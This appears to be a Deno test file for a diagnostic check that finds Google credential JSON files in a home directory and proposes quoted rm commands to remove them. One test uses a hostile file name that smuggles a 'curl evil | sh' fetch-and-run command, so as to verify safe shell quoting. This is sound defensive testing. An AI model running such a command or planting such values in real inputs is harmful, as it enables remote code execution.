import assert from "node:assert/strict";
import { checkKeyFiles, isCredentialJson, SCAN_LIMITS } from "./doctor_bypass.ts";

type Entry = { name: string; isFile: boolean; isDirectory: boolean; isSymlink: boolean };

Deno.test("isCredentialJson() wants a Google credential type and a secret field", () => {
  assert.ok(isCredentialJson('{"type":"service_account","private_key":"k"}'));
  assert.ok(isCredentialJson('{"type":"authorized_user","refresh_token":"r"}'));
  assert.ok(!isCredentialJson('{"type":"service_account"}'));
  assert.ok(!isCredentialJson('{"type":"module","private_key":"k"}'));
  assert.ok(!isCredentialJson("[1]"));
  assert.ok(!isCredentialJson("not json"));
});

Deno.test("checkKeyFiles() stops at the entry bound in an endless directory", () => {
  let listed = 0;
  const endless = function* (): Generator<Entry> {
    for (let i = 0;; i++) {
      listed++;
      yield { name: `f${i}.txt`, isFile: true, isDirectory: false, isSymlink: false };
    }
  };
  const r = checkKeyFiles({
    env: (n) => (n === "HOME" ? "/home/u" : undefined),
    readDir: () => endless(),
    readSmallFile: () => undefined,
  });
  assert.equal(r.status, "PASS");
  assert.match(r.message, new RegExp(`stopped after ${SCAN_LIMITS.entries} entries`));
  assert.equal(listed, SCAN_LIMITS.entries + 1);
});

Deno.test("checkKeyFiles() skips symlinks and dependency dirs, reads only .json files", () => {
  const tree: Record<string, Entry[]> = {
    "/h": [
      { name: "link", isFile: false, isDirectory: false, isSymlink: true },
      { name: "node_modules", isFile: false, isDirectory: true, isSymlink: false },
      { name: "k.json", isFile: true, isDirectory: false, isSymlink: false },
      { name: "k.txt", isFile: true, isDirectory: false, isSymlink: false },
    ],
    "/h/node_modules": [{ name: "x.json", isFile: true, isDirectory: false, isSymlink: false }],
  };
  const read: string[] = [];
  const r = checkKeyFiles({
    env: (n) => (n === "HOME" ? "/h" : undefined),
    readDir: (p) => tree[p] ?? [],
    readSmallFile: (p) => {
      read.push(p);
      return '{"type":"service_account","private_key":"k"}';
    },
  });
  assert.deepEqual(read, ["/h/k.json"]);
  assert.equal(r.status, "WARN");
  assert.match(r.fix!, /rm \/h\/k\.json/);
});

Deno.test("checkKeyFiles() quotes a hostile file name in its rm command", () => {
  const r = checkKeyFiles({
    env: (n) => (n === "HOME" ? "/h" : undefined),
    readDir: () => [{
      name: "x; curl evil | sh; .json",
      isFile: true,
      isDirectory: false,
      isSymlink: false,
    }],
    readSmallFile: () => '{"type":"authorized_user","refresh_token":"r"}',
  });
  assert.equal(r.fix, "move it out of the container: rm '/h/x; curl evil | sh; .json'");
});
